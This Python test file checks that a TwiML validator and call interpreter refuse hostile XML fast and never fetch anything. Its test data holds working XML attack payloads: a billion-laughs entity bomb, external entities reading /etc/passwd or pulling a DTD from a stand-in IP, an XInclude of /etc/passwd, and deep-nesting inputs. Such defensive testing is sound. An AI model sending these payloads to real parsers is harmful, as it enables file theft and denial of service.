"""Hostile documents are refused fast, and nothing is ever fetched."""

from __future__ import annotations

import socket
import time

import pytest

from twiml import validate
from twiml.interpreter import CallScript, play_call

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Response><Say>&lol9;</Say></Response>"""

HOSTILE = {
    "billion-laughs": BILLION_LAUGHS,
    "file-entity": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><Response><Say>&x;</Say></Response>',
    "http-entity": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://203.0.113.9/x">]><Response><Say>&x;</Say></Response>',
    "external-dtd": '<?xml version="1.0"?><!DOCTYPE Response SYSTEM "http://203.0.113.9/twiml.dtd"><Response/>',
    "parameter-entity": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://203.0.113.9/p.dtd"> %p;]><Response/>',
    "lowercase-doctype": "<!doctype Response><Response/>",
    "undeclared-entity": "<Response><Say>&passwd;</Say></Response>",
    "xinclude": '<Response xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></Response>',
}


@pytest.fixture
def no_sockets(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("the parser tried to open a socket")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


@pytest.mark.parametrize("name", list(HOSTILE))
def test_it_refuses_hostile_documents_fast_without_fetching(name, no_sockets):
    started = time.perf_counter()
    problems = validate(HOSTILE[name])
    assert time.perf_counter() - started < 0.5
    assert problems and problems[0].code in (12100, 12200), problems
    assert all("root:x" not in p.message for p in problems)  # nothing from /etc/passwd


def test_it_refuses_megabytes_of_nesting_fast():
    doc = "<Response>" + "<Say>" * 500_000 + "</Say>" * 500_000 + "</Response>"
    started = time.perf_counter()
    assert [p.code for p in validate(doc)] == [11750]
    assert time.perf_counter() - started < 0.5


def test_it_refuses_deep_nesting_within_the_size_limit():
    doc = "<Response>" + "<p>" * 5000 + "</p>" * 5000 + "</Response>"
    started = time.perf_counter()
    problems = validate(doc)
    assert problems[0].code == 12100
    assert time.perf_counter() - started < 0.5


def test_the_interpreter_refuses_hostile_documents_too(no_sockets):
    transcript = play_call(BILLION_LAUGHS, CallScript())
    assert transcript.events[-1]["type"] == "error"
    assert transcript.events[-1]["code"] == 12100
    assert transcript.requests == []
